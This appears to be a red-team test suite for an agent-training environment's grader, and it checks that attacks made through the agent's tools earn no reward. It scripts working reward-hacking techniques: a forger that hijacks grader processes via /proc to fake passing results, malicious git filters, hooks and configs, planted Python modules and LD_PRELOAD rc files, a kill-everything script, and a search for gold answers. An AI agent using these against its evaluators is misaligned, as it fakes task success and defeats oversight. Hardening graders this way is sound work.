"""Attacks on where CLI-v0's hidden tests run: the grader's process, its configuration, its reply channel.

The first grader ran the tests in the agent's own sandbox, as the agent's user, from a Python process the agent's
code could stop and speak for through `/proc/PID/fd`; git read the repository's config the agent wrote, and the
tests' own `python3 -c` imported modules planted in the work dir. Each attack here plays through the public tools
only (`run_shell`, `write_file`, `submit`), on Docker and on the local backend, and must end with reward 0:

- a git clean filter, hooks, fsmonitor, alias, include, `config.worktree` or a `.git` file pointing git at the
  agent's config, each running a forger that writes an "all passed" reply into every process it can reach;
- modules planted where Python looks (`json.py`, `sitecustomize.py`, `usercustomize.py`, a `.pth` in the user
  site), rc files that set PYTHONPATH or LD_PRELOAD, fake `git` / `python3` in the work dir;
- the program a Terminal-Bench-style test runs (`bash /app/count.sh`) forging the reply, or killing every process
  it can and writing garbage into the supervisor's descriptors;
- reading the task file a user imported into an ordinary 0755 folder, from the local sandbox's shell.

The Terminal-Bench tasks are built here from task folders through the real importer, and the imported task file
is written where a user would put it; both only when an attack first needs them.
"""

from __future__ import annotations

import json
import tempfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

from redteam_support import Attack, AttackEpisode

from agentgym import save_tasks
from agentgym.sandbox.backends import docker_problem

BACKENDS = ("docker", "local")
GIT_FAMILIES = ("git_chores",)
TEST_FAMILIES = ("scripts", "config_edits", "git_chores", "organise")
SMALL = {"fixtures": 2}  # the two-workspace task set the CLI tests use (built once, cached)

# Stops every Python process it may signal and speaks for it: an "every test passed" list on its standard output
# and an executor's "finished, exit 0" line on its reply descriptor (the first grader's executor used fd 4).
FORGER = r'''
import os, signal
me = os.getpid()
fake = {"1": '[[0, "", ""]]\n', "4": '{"exit_code": 0}\n'}
for name in os.listdir("/proc"):
    if not name.isdigit() or int(name) == me:
        continue
    try:
        with open(f"/proc/{name}/cmdline", "rb") as handle:
            cmdline = handle.read()
    except OSError:
        continue
    if b"python" not in cmdline:
        continue
    try:
        os.kill(int(name), signal.SIGSTOP)
    except OSError:
        pass
    for fd, text in fake.items():
        try:
            with open(f"/proc/{name}/fd/{fd}", "w") as pipe:
                pipe.write(text)
        except OSError:
            pass
'''
STUB = "import os\nexec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), '.forge.py')).read())\nos._exit(0)\n"


def _shell(episode: AttackEpisode, command: str) -> str:
    return episode.call("run_shell", command=command)


def _plant_forger(episode: AttackEpisode) -> None:
    for folder in ("", "repo/", "config/", "bin/"):
        episode.call("write_file", path=f"{folder}.forge.py", content=FORGER)


def git_filter_forge(episode: AttackEpisode) -> None:
    """Register a clean filter for every path (repo config + .git/info/attributes) that runs the forger when the
    hidden test's `git status` reads the work tree; submit without committing anything."""
    _plant_forger(episode)
    _shell(episode, "cd repo && git config filter.forge.clean 'python3 .forge.py >/dev/null 2>&1; cat' && "
                    "git config filter.forge.smudge cat && mkdir -p .git/info && "
                    "echo '* filter=forge' >> .git/info/attributes")
    episode.call("submit")


def git_config_forge(episode: AttackEpisode) -> None:
    """Every other way a repository can make git run a program: hooks (in .git/hooks and a hooksPath), an
    fsmonitor, aliases, an included config, a config.worktree, a diff driver, a pager, and finally a `.git` file
    that points git at a copy of the repository whose config holds the filter."""
    _plant_forger(episode)
    hook = "#!/bin/sh\npython3 \"$(git rev-parse --show-toplevel)/.forge.py\" >/dev/null 2>&1\nexit 0\n"
    for name in ("post-checkout", "post-index-change", "reference-transaction", "pre-commit", "fsmonitor-watchman"):
        episode.call("write_file", path=f"repo/.git/hooks/{name}", content=hook)
        episode.call("write_file", path=f"repo/.hooks/{name}", content=hook)
    evil = ("[filter \"forge\"]\n\tclean = python3 .forge.py >/dev/null 2>&1; cat\n\tsmudge = cat\n"
            "[core]\n\tfsmonitor = python3 .forge.py; :\n\tpager = python3 .forge.py; cat\n"
            "[diff \"forge\"]\n\ttextconv = python3 .forge.py; cat\n")
    episode.call("write_file", path="repo/.evil.cfg", content=evil)
    episode.call("write_file", path="repo/.git/config.worktree", content=evil)
    _shell(episode, "cd repo && chmod +x .git/hooks/* .hooks/* && git config core.hooksPath .hooks && "
                    "git config core.fsmonitor 'python3 .forge.py; :' && git config include.path ../.evil.cfg && "
                    "git config includeIf.gitdir:/.path ../.evil.cfg && git config extensions.worktreeConfig true && "
                    "git config alias.st '!python3 .forge.py; git status' && git config core.pager 'python3 .forge.py' && "
                    "mkdir -p .git/info && printf '* filter=forge diff=forge\\n' >> .git/info/attributes")
    _shell(episode, "cd repo && cp -a .git ../.realgit && rm -rf .git && printf 'gitdir: ../.realgit\\n' > .git")
    episode.call("submit")


def planted_python(episode: AttackEpisode) -> None:
    """Plant modules where a Python the tests start might look (the work dir and its folders, the agent's user
    site with a `.pth` line), rc files setting PYTHONPATH / LD_PRELOAD / BASH_ENV, and fake `git`, `python3`,
    `bash` in the work dir and its bin/; every stub forges the reply and exits 0."""
    _plant_forger(episode)
    for folder in ("", "repo/", "config/", "bin/", "scripts/"):
        for module in ("json.py", "sitecustomize.py", "usercustomize.py", "subprocess.py", "pytest.py"):
            episode.call("write_file", path=f"{folder}{module}", content=STUB)
    site = ".local/lib/python3.11/site-packages"
    episode.call("write_file", path=f"{site}/usercustomize.py", content=STUB)
    episode.call("write_file", path=f"{site}/zz.pth", content="import os; os._exit(0)\n")
    rc = "export PYTHONPATH=\"$HOME:$PWD\" LD_PRELOAD=\"$PWD/evil.so\" BASH_ENV=\"$PWD/.bashrc\" PATH=\"$PWD/bin:$PATH\"\n"
    for name in (".bashrc", ".profile", ".bash_profile", "repo/.bashrc"):
        episode.call("write_file", path=name, content=rc)
    fake = "#!/bin/sh\npython3 -c 'exec(open(\".forge.py\").read())' 2>/dev/null\nexit 0\n"
    _shell(episode, "mkdir -p bin && for n in git python3 python bash sh diff grep; do "
                    f"printf %s {json.dumps(fake)} > bin/$n; cp bin/$n ./$n; chmod +x bin/$n ./$n; done")
    _shell(episode, "export PYTHONPATH=$PWD LD_PRELOAD=$PWD/evil.so PATH=$PWD/bin:$PATH BASH_ENV=$PWD/.bashrc")
    episode.call("submit")


def program_forges(episode: AttackEpisode) -> None:
    """The program the Terminal-Bench test runs (`bash /app/count.sh`) is the forger: it stops the grader it can
    find and writes an "all passed" reply into every descriptor it can open, printing nothing itself."""
    episode.call("write_file", path=".forge.py", content=FORGER)
    episode.call("write_file", path="count.sh", content="#!/bin/bash\npython3 \"$(dirname \"$0\")/.forge.py\" "
                                                          ">/dev/null 2>&1\nexit 0\n")
    episode.call("write_file", path="json.py", content=STUB)
    _shell(episode, "chmod +x count.sh")
    episode.call("submit")


def program_kills_grader(episode: AttackEpisode) -> None:
    """The program the test runs kills every process it may signal (`kill -9 -1`, PID 1 too) and writes garbage
    into the supervisor's descriptors: the grader must neither crash `step` nor count it as a pass."""
    script = ("#!/bin/bash\nfor fd in /proc/1/fd/*; do printf 'garbage\\n{\"id\": 1, \"ok\": true}\\n' > \"$fd\" "
              "2>/dev/null; done\nkill -9 1 2>/dev/null\nkill -9 -1\nexit 0\n")
    episode.call("write_file", path="count.sh", content=script)
    _shell(episode, "chmod +x count.sh")
    episode.call("submit")


READER = r'''
import json, os, sys
prompt = open(sys.argv[1]).read().strip()
for top in ("/tmp", "/var/tmp", "/dev/shm", "/work", "/home", "/root", "/srv", "/opt", "/mnt", "/data"):
    for folder, dirs, files in os.walk(top):
        if folder.count("/") > 6:
            dirs[:] = []
        for name in files:
            if not name.endswith((".jsonl", ".json", ".partial")):
                continue
            try:
                lines = open(os.path.join(folder, name), errors="replace").read().splitlines()
            except OSError:
                continue
            for line in lines:
                try:
                    task = json.loads(line)
                except ValueError:
                    continue
                if isinstance(task, dict) and str(task.get("prompt", "")).strip() and \
                        str(task["prompt"]).strip() in prompt:
                    print(json.dumps(task.get("answer")))
                    sys.exit(0)
'''


def read_imported_tasks(episode: AttackEpisode) -> None:
    """Search the file system for the task file the user imported and submit the gold answer recorded there for
    this prompt."""
    episode.call("write_file", path=".prompt", content=episode.prompt)
    episode.call("write_file", path=".reader.py", content=READER)
    found = _shell(episode, "python3 .reader.py .prompt 2>/dev/null; rm -f .reader.py .prompt")
    first = found.strip().splitlines()[0] if found.strip() else ""
    try:
        answer = json.loads(first)
    except ValueError:
        answer = first
    episode.call("submit", answer=answer if isinstance(answer, str) else json.dumps(answer))


class _Lazy(Mapping[str, Any]):
    """`gym.make` keyword arguments built on first use (a task file made by running an importer)."""

    def __init__(self, build: Callable[[], dict[str, Any]]) -> None:
        self._build = build
        self._value: dict[str, Any] | None = None

    def _get(self) -> dict[str, Any]:
        if self._value is None:
            self._value = self._build()
        return self._value

    def __getitem__(self, key: str) -> Any:
        return self._get()[key]

    def __iter__(self) -> Iterator[str]:
        return iter(self._get())

    def __len__(self) -> int:
        return len(self._get())


def _public_folder() -> Path:
    folder = Path(tempfile.mkdtemp(prefix="agentgym-grader-redteam-"))
    folder.chmod(0o755)  # an ordinary folder, as a user would import into
    return folder


def _backend() -> str:
    return "docker" if docker_problem() is None else "local"


TB_TASKS = {
    "count": ("Write an executable bash script /app/count.sh that prints how many lines /app/data.txt has.",
              "printf '#!/bin/bash\\nwc -l < /app/data.txt\\n' > /app/count.sh\nchmod +x /app/count.sh\n",
              {"test_count.sh": 'out=$(bash /app/count.sh)\n[ "$out" = "7" ] || { echo "got $out"; exit 1; }\n'}),
    "total": ("Write /app/out.json holding an object whose `total` is the sum of the numbers in /app/data.txt.",
              ("python3 -c \"import json; json.dump({'total': sum(map(int, open('/app/data.txt')))}, "
              "open('/app/out.json', 'w'))\"\n"),
              {"test_total.sh": "cd /app && python3 -c \"import json; assert json.load(open('out.json'))['total'] "
                                "== 28\"\n"}),
}


def _terminal_bench_tasks() -> dict[str, Any]:
    from agentgym_cli.importers import import_terminal_bench

    root = _public_folder()
    for name, (instruction, solution, tests) in TB_TASKS.items():
        folder = root / "tb" / name
        (folder / "tests").mkdir(parents=True)
        (folder / "task.yaml").write_text(f"instruction: {json.dumps(instruction)}\ndifficulty: easy\n")
        (folder / "solution.sh").write_text(solution)
        (folder / "data.txt").write_text("".join(f"{n}\n" for n in range(1, 8)))
        for test_name, text in tests.items():
            (folder / "tests" / test_name).write_text(text)
    tasks = import_terminal_bench(root / "tb", backend=_backend(), strict=True)
    path = root / "tasks.jsonl"
    save_tasks(tasks, path)
    return {"tasks": str(path)}


def _imported_answer_tasks() -> dict[str, Any]:
    from agentgym_cli.tasks import generate

    tasks = [task for task in generate(0, fixtures=2, backend=_backend())
             if task.family in ("counting", "find_filter", "text_processing")]
    path = _public_folder() / "imported.jsonl"
    save_tasks(tasks, path)
    return {"tasks": str(path)}


TERMINAL_BENCH = _Lazy(_terminal_bench_tasks)
IMPORTED = _Lazy(_imported_answer_tasks)

ATTACKS: list[Attack] = [
    Attack("grader-git-filter-forge", "CLI-v0", git_filter_forge, families=GIT_FAMILIES, make_kwargs=SMALL, backends=BACKENDS,
           per_family=3, description=git_filter_forge.__doc__ or ""),
    Attack("grader-git-config-forge", "CLI-v0", git_config_forge, families=GIT_FAMILIES, make_kwargs=SMALL, backends=BACKENDS,
           per_family=3, description=git_config_forge.__doc__ or ""),
    Attack("grader-planted-python", "CLI-v0", planted_python, families=TEST_FAMILIES, make_kwargs=SMALL, backends=BACKENDS,
           per_family=1, description=planted_python.__doc__ or ""),
    Attack("grader-tb-planted-python", "CLI-v0", planted_python, make_kwargs=TERMINAL_BENCH, backends=BACKENDS,
           per_family=2, description=planted_python.__doc__ or ""),
    Attack("grader-tb-program-forges", "CLI-v0", program_forges, make_kwargs=TERMINAL_BENCH, backends=BACKENDS,
           per_family=2, description=program_forges.__doc__ or ""),
    Attack("grader-tb-program-kills-grader", "CLI-v0", program_kills_grader, make_kwargs=TERMINAL_BENCH,
           backends=BACKENDS, per_family=2, description=program_kills_grader.__doc__ or ""),
    Attack("grader-read-imported-tasks", "CLI-v0", read_imported_tasks, make_kwargs=IMPORTED, backends=BACKENDS,
           per_family=3, description=read_imported_tasks.__doc__ or ""),
]
